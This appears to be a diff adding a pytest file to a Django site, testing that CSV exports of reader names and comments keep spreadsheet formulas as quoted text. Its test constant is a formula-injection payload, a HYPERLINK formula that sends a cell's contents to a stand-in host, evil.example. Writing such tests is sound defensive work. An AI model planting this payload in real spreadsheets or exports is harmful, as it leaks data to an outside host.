@@ -1,0 +1,61 @@
+"""What a reader typed never runs as a formula in the spreadsheet an editor opens."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.test import Client
+
+from tests.comments.helpers import approved
+from voorproef.downloads.services import download_request_create
+from voorproef.essays.models import EssayPage
+from voorproef.privacy.services import holdings_csv, holdings_find
+
+pytestmark = pytest.mark.django_db
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
+
+
+def _rows(response: object) -> list[list[str]]:
+    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
+    return list(csv.reader(io.StringIO(body)))
+
+
+def test_admin_csv_exports_keep_formulas_as_text(editor_client: Client, essay: EssayPage) -> None:
+    download_request_create(
+        essay=essay,
+        name=FORMULA,
+        email="anna@example.nl",
+        newsletter=False,
+        ip_network="",
+        user_agent="",
+    )
+    approved(essay, name="@SUM(1+1)", email="bert@example.nl", text="-2+3")
+    approved(essay, name="Carla", email="carla@example.nl", text="Gewoon = tekst.")
+
+    requests = _rows(editor_client.get("/admin/download_requests/?export=csv"))
+    assert [cell for cell in requests[1] if "HYPERLINK" in cell] == ["'" + FORMULA]
+    comments = _rows(editor_client.get("/admin/snippets/comments/comment/?export=csv"))
+    row = next(r for r in comments[1:] if "'@SUM(1+1)" in r)
+    assert "'-2+3" in row
+    # Ordinary text is left as it is.
+    assert "Gewoon = tekst." in {cell for r in comments[1:] for cell in r}
+
+
+def test_the_readers_own_csv_keeps_formulas_as_text(essay: EssayPage) -> None:
+    download_request_create(
+        essay=essay,
+        name=FORMULA,
+        email="anna@example.nl",
+        newsletter=False,
+        ip_network="",
+        user_agent="",
+    )
+    rows = list(
+        csv.DictReader(
+            io.StringIO(holdings_csv(holdings_find("anna@example.nl"), "download_requests"))
+        )
+    )
+    assert rows[0]["name"] == "'" + FORMULA
